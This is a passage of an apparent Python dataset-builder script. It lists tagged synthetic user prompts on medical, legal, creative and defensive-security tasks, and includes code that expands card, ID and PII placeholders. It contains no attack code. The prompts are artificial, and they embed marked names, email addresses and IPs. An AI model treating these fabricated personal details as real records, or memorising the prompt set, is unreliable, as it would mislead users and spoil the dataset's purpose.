@ creative g l p
bedtime story about a dragon who's scared of the dark, for my 5 year old, about 5 minutes long

@ creative g l p
Thank-you poem for the ICU nurses' staff room wall, from the families. Warm, not sappy.

@ creative g l p
100-word sci-fi flash fiction: the last email ever sent

@ creative g l p
Xmas party theme ideas that don't involve fancy dress, we've got a lot of introverts

@ chat g l p
hi! first time using this thing

@ chat g l p
Haha fair point. OK, moving on.

@ chat g l p
do you ever get tired of people asking you to write emails

@ chat g l p
brb, meeting

@ chat g l p
Thank you so much. Genuinely.

@ chat g l p
what's your favourite film? you're allowed to have one

@ chat g l p
I'm back. where were we?

@ translate m l p
Please translate into Vietnamese for a patient's family: "Visiting hours are 2pm to 8pm. Children under 12 must be with an adult."

@ summarize m l c
make this clinic letter readable for the patient himself, 3 short sentences: "Dear colleague, I reviewed this 71-year-old man with a 2-year history of progressive exertional dyspnoea. Echo shows severe aortic stenosis (peak velocity 4.6 m/s, AVA 0.7 cm2) with preserved LV function. I have discussed TAVI and he wishes to proceed; I have listed him for work-up CT."

@ extract m l c
pull out every date, test and result from this: "CT chest 04/02: 9mm RUL nodule. PET 19/02: SUV 4.1. Bronch 03/03: non-diagnostic. MDT 10/03: for CT-guided biopsy."

@ code m m i
SQL against our EHR warehouse: patients with diabetes (diagnosis table, code E11%) whose last HbA1c in the results table is older than 12 months

@ draft m l i
Write a handover template for night shift nurses: patient, situation, background, assessment, recommendation, with a line for escalation contacts.

@ classify m l p
Which of these are side effects and which are allergic reactions? nausea after penicillin, hives after amoxicillin, diarrhoea on metformin, swollen lips after ibuprofen

@ math m l p calc
insulin sensitivity factor is 2.5 mmol/L per unit, target 7, current reading 14.5. how many units for the correction?

@ translate l l p
translate this contract clause into plain Dutch (it's going to our Rotterdam supplier): "Title to the Goods passes to the Buyer on delivery; risk passes on unloading."

@ extract l l i
extract parties, effective date, term and governing law into JSON: "This Master Services Agreement is made on 1 April 2024 between Northwind Analytics Ltd and Pellucid GmbH, for an initial term of 36 months, governed by the laws of England and Wales."

@ summarize l l p
summarise what the judge decided, for our non-lawyer founders: "The claim for breach of contract succeeds in part. The Defendant was entitled to terminate for the Claimant's repeated late deliveries, but failed to give the 30-day cure notice required by clause 18.2 and is therefore liable for the Claimant's losses in the notice period only."

@ classify l l i
Risk-rate each clause red/amber/green for us as the customer: auto-renewal with 180 days' notice to cancel; supplier can change prices once a year by up to CPI; liability cap at 12 months' fees; supplier may use our data to improve its services.

@ draft l l p
Write a short, plain-English privacy notice for a job application form: what we collect, why, how long we keep it, and who to contact.

@ summarize m l c :: summarise the discharge letter in plain words
@ extract m l c :: make a table of the new medicines and when to take them
summarise the discharge letter in plain words and make a table of the new medicines and when to take them, it's for my grandad

Discharged 14/05. Admitted with NSTEMI, angiogram showed 2-vessel disease, 2 stents to LAD. New medications: aspirin 75mg once daily (lifelong), ticagrelor 90mg twice daily for 12 months, atorvastatin 80mg at night, bisoprolol 2.5mg in the morning, ramipril 2.5mg once daily. Cardiac rehab will contact him. No driving for 1 week.

@ qa m l p :: What's the difference between a cold and flu
@ draft m l p :: write a short Teams post telling people to stay home if they have flu symptoms
What's the difference between a cold and flu, and can you write a short Teams post telling people to stay home if they have flu symptoms

@ reasoning m m p :: is it better to go to a walk-in centre or wait for the GP tomorrow
@ translate m l p :: translate your answer into Romanian for my mother-in-law
my mother-in-law has had a urine infection for 2 days, now a temperature and back pain. is it better to go to a walk-in centre or wait for the GP tomorrow? then translate your answer into Romanian for my mother-in-law

@ qa l l p :: what's the limitation period for a breach of contract claim in England
@ math l l p calc :: if the breach was on 17 March 2019 when does it expire
what's the limitation period for a breach of contract claim in England, and if the breach was on 17 March 2019 when does it expire?

@ extract l l c :: list the key dates
@ draft l l c :: draft a reminder email to the client for each
list the key dates and draft a reminder email to the client for each: [[PERSON:Amelia Hart]] v Crestline Homes — defence due 22 Jan, disclosure 5 Mar, witness statements 16 Apr, trial window from 9 Sept. client email [[EMAIL:amelia.hart@protonmail.com]]

@ qa g l i retr
what does our handbook say about bringing dogs into the office?

@ reasoning f m i retr
Pull last year's vendor contracts from the procurement folder and tell me which renewals are worth renegotiating first

@ qa l l i retr
What's our internal approval process for signing an NDA — who can sign on behalf of the company?

@ code g l p exec
run this and give me the result: python -c "print(sum(i*i for i in range(1, 101)))"

@ reasoning l h i
Prepare a full gap analysis of our customer onboarding against the EU AML directive: identity verification, beneficial ownership, PEP and sanctions screening, record keeping, and staff training — where we fall short and what to fix first.
@ classify s l r
Someone in support pasted a customer's card number {{CARD_MC_DASH}} into a Jira ticket. Under our data classes (public / internal / confidential / restricted), what is that?

@ draft s l r :: Draft the alert to the issuing bank's fraud desk
@ reasoning s m r :: tell me what else we should look for in the dump
Our threat intel feed found {{CARD_VISA_DASH}} with CVV and billing address in a paste-site dump that also mentions our checkout domain. Draft the alert to the issuing bank's fraud desk and tell me what else we should look for in the dump.

@ translate s l i
Translate into German for the Munich office: "Your password expires in 5 days. Change it only through the self-service portal, never through a link in an email."

@ summarize s l i
summarise this scan for the weekly ops meeting, one short paragraph:
Hosts scanned: 412. Critical: 3 (OpenSSH regreSSHion on 2 jump hosts, Log4j 2.14 on legacy-reporting-01). High: 27 (mostly missing Windows cumulative updates). Medium: 140. 38 hosts unreachable. Compared to last month criticals down from 9, highs up from 19.

@ extract s l c
from these headers give me the real sender domain, the return-path and every relay IP

Return-Path: <[[EMAIL:bounce@mailer-7731.xyz]]>
Received: from mailer-7731.xyz ([[IP_ADDRESS:193.56.29.114]]) by mx1.ourco.com
Received: from [[[IP_ADDRESS:10.0.0.12]]] by mailer-7731.xyz
From: "Payroll Team" <[[EMAIL:payroll@0urco.com]]>
Subject: Your December payslip is ready

@ math s l i calc
Phishing sim results: 1,240 emails sent, 187 clicked, 41 typed in credentials. Click rate and credential-submission rate?

@ qa l l r
A contractor's NRIC {{NRIC_S2}} was in the badge-access export that got emailed to the wrong person. Is that a notifiable breach under the PDPA?

@ reasoning s m p
Should our helpdesk be allowed to reset someone's MFA over the phone? People lose phones all the time but I've read about attackers doing exactly this. What's a sensible middle ground?

@ code s l p
YARA rule to flag Office documents that contain auto-open macros calling PowerShell

@ qa s l p :: how do attackers actually crack password hashes
@ code s l p :: show me how to hash a password properly in Node with bcrypt
how do attackers actually crack password hashes? and show me how to hash a password properly in Node with bcrypt
@ summarize l l c :: give me the short version
@ reasoning l m c :: whether she has a claim for constructive dismissal
@ draft l m c :: draft a holding reply to her that doesn't admit anything
Long one sorry. HR forwarded me this from an employee. Can you give me the short version, tell me honestly whether she has a claim for constructive dismissal, and draft a holding reply to her that doesn't admit anything?

From: [[PERSON:Joanna Kowalczyk]] <[[EMAIL:j.kowalczyk@ourco.com]]>
Subject: Formal grievance - change to my role

Dear HR,
I am writing to raise a formal grievance. In September I returned from twelve months of maternity leave to find that my role as Senior Account Manager had been split in two. My three largest clients were reassigned to a colleague who joined while I was away, and I was told that I would now "support" him on those accounts. My title has not changed but my commission potential has fallen by around 40%, and my line manager has told me in two separate one-to-ones that this is "just how it is now". I was not consulted about any of this before my return, and my request for a phased return with one remote day a week was refused without reasons, although two colleagues in the same team have that arrangement. I have been with the company for seven years and have always had good reviews. I would like to understand the business reasons for these changes, whether they were made because I was on leave, and what can be done to restore my accounts. I am happy to attend a meeting and would like to bring my union representative.
Kind regards,
Joanna

@ reasoning s h i
Here's everything we know so far about Tuesday's outage. Put together a proper post-incident review: timeline, root cause, what went well, what didn't, and action items with priority. Don't speculate beyond the facts.

Facts: at 06:12 the on-call engineer got a disk-space alert for the primary database host; it was acknowledged but not acted on because the runbook said the nightly cleanup would clear it. The cleanup job had been disabled three weeks earlier during a migration and never re-enabled. At 07:48 the disk filled, the database went read-only, and checkout started failing with HTTP 500. The status page stayed green until 08:20 because it only checks the homepage. Customer support raised the alarm at 08:05 after 40 chats in ten minutes. Engineers freed space by deleting old WAL archives at 08:31 and service recovered at 08:37. Around 2,300 orders failed; finance estimates lost revenue of 180k. During the incident two engineers also noticed that the database admin password is stored in a shared spreadsheet, which is unrelated but worrying. No data was lost.
"""

_INLINE = re.compile(r"\[\[([A-Z_]+):(.+?)\]\]")
_PLACE = re.compile(r"[ \t]*\{\{([A-Z0-9_]+)\}\}")


def _expand(raw: str) -> str:
    """``{{NAME}}``: a block replaces its line's indent with a blank line; a value
    keeps it. ``[[TYPE:value]]`` marks an inline PII value."""

    def place(m: re.Match[str]) -> str:
        name = m.group(1)
        if name in _MAT:
            return "\n\n" + _MAT[name]
        return m.group(0)[: m.start(1) - m.start(0) - 2] + _VALUES[name]

    text = _PLACE.sub(place, raw)
    return _INLINE.sub(lambda m: mark(m.group(1), m.group(2)), text)


def rows() -> list[Row]:
    return record_rows(ROWS, prefix="fresh4", expand=_expand, spec=_SPEC)


def main() -> None:
    write_and_check(
        HERE / "fresh4.jsonl",
        rows(),
        single_clause=True,
        scan_unmarked=True,
        card=CARD_TOKEN,
        leftover=re.compile(r"\{\{[A-Z0-9_]+\}\}|\[\[[A-Z_]+:"),
    )


if __name__ == "__main__":
    main()
